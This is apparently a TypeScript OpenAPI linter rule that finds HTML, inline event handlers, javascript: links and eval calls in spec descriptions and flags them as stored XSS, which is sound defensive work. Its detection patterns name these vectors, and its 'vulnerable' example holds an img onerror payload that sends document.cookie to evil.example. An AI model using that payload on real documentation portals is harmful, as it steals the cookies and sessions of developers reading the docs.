import { isOas2, isObject, type JsonPath } from '../functions/openapi.ts';
import { defineSpecRule } from './rule.ts';

const TEXT_KEYS = new Set(['description', 'summary', 'title']);
/** Values, not prose: examples and defaults are data, shown as code. */
const DATA_KEYS = new Set(['example', 'default', 'enum', 'const', 'x-example', 'x-examples']);

const UNSAFE: [RegExp, string][] = [
  [/<script\b/i, 'a `<script>` tag'],
  [/<(iframe|frame|frameset|object|embed)\b/i, 'an embedding tag (`<iframe>`, `<object>`, `<embed>`)'],
  [/<[a-z][^>]*?[\s/"']on[a-z]+\s*=/i, 'an inline event handler (`onerror=`, `onload=`…)'],
  [
    /(\]\(\s*<?|\b(href|src|action|formaction|xlink:href)\s*=\s*["']?|<|^\s*\[[^\]]+\]:\s*<?)\s*(javascript|vbscript|data:text\/html)/im,
    'a `javascript:` URL',
  ],
  [/\beval\s*\(/, 'an `eval(` call'],
];

/** Code spans and fenced blocks are shown as text by every Markdown renderer. */
function withoutCode(text: string): string {
  return text.replace(/^(`{3,}|~{3,})[^\n]*\n[\s\S]*?(^\1|$(?![\s\S]))/gm, '').replace(/(`+)[\s\S]*?\1/g, '');
}

/** Objects whose keys are names chosen by the author (a property may be called `default` or `example`). */
const NAME_MAPS = new Set([
  'paths',
  'webhooks',
  'properties',
  'patternProperties',
  'definitions',
  '$defs',
  'schemas',
  'responses',
  'parameters',
  'requestBodies',
  'headers',
  'securitySchemes',
  'securityDefinitions',
  'links',
  'callbacks',
  'pathItems',
  'content',
  'encoding',
  'variables',
]);

interface Visit {
  node: unknown;
  /** Paths are rebuilt from parents only for findings: copying one per node is the cost on huge specs. */
  parent: Visit | undefined;
  key: string | number;
  /** The node maps names to objects. */
  names: boolean;
  /** The node is a 3.x Example Object, whose `value` is data. */
  example: boolean;
}

function pathOf(visit: Visit): JsonPath {
  const path: JsonPath = [];
  for (let at: Visit | undefined = visit; at?.parent; at = at.parent) path.push(at.key);
  return path.reverse();
}

function unsafeMarkdown(doc: unknown) {
  const results: { message: string; path: JsonPath }[] = [];
  const oas2 = isOas2(doc);
  const stack: Visit[] = [{ node: doc, parent: undefined, key: '', names: false, example: false }];
  while (stack.length > 0) {
    const visit = stack.pop()!;
    const { node, names, example } = visit;
    if (Array.isArray(node)) {
      for (let index = 0; index < node.length; index++) {
        stack.push({ node: node[index], parent: visit, key: index, names: false, example: false });
      }
      continue;
    }
    if (!isObject(node)) continue;
    for (const key in node) {
      const value = node[key];
      if (names) {
        stack.push({ node: value, parent: visit, key, names: false, example });
        continue;
      }
      if (typeof value === 'string') {
        if (!TEXT_KEYS.has(key) || !/[<(:]/.test(value)) continue;
        const found = UNSAFE.find(([pattern]) => pattern.test(withoutCode(value)));
        if (found) {
          results.push({
            message: `This ${key} contains ${found[1]}. Docs renderers that allow HTML run such markup in readers' browsers (stored XSS in the docs portal). Remove it, or put it in a code span.`,
            path: [...pathOf(visit), key],
          });
        }
        continue;
      }
      if (typeof value !== 'object' || value === null) continue;
      if (DATA_KEYS.has(key) || (example && key === 'value')) continue;
      if (key === 'examples') {
        // 3.x maps names to Example Objects, whose summary and description are rendered; arrays and
        // Swagger 2.0's media-type map hold raw values.
        if (isObject(value) && !oas2)
          stack.push({ node: value, parent: visit, key, names: true, example: true });
        continue;
      }
      stack.push({
        node: value,
        parent: visit,
        key,
        names: NAME_MAPS.has(key) && isObject(value),
        example: false,
      });
    }
  }
  return results;
}

export default defineSpecRule({
  meta: {
    id: 'markdown-unsafe',
    engine: 'openapi',
    severity: 'warning',
    title: 'A description, summary or title contains HTML or script that runs when the docs are rendered.',
    rationale:
      'Descriptions are Markdown, and many documentation portals render the HTML inside it. A `<script>` tag, ' +
      'an inline event handler, an `<iframe>` or a `javascript:` link then runs in the browser of everyone ' +
      'who reads the docs, often developers logged in to the API console: stored cross-site scripting. ' +
      'Text in code spans and fenced code blocks is shown as text and is not flagged.',
    fix:
      'Remove the markup, or wrap it in a code span (`` `<script>` ``) if it is meant as an example. Use ' +
      'plain Markdown links with `https:` URLs.',
    cwe: ['CWE-79'],
    owasp: ['API8:2023'],
    category: 'injection',
    formats: ['oas2', 'oas3.0', 'oas3.1'],
    examples: {
      language: 'yaml',
      vulnerable:
        'info:\n  description: Welcome <img src=x onerror="fetch(`//evil.example/`+document.cookie)">\n',
      safe: 'info:\n  description: Never send `<script>` tags in names.\n',
    },
  },
  given: '$',
  resolved: false,
  fragments: true,
  then: { function: unsafeMarkdown },
});
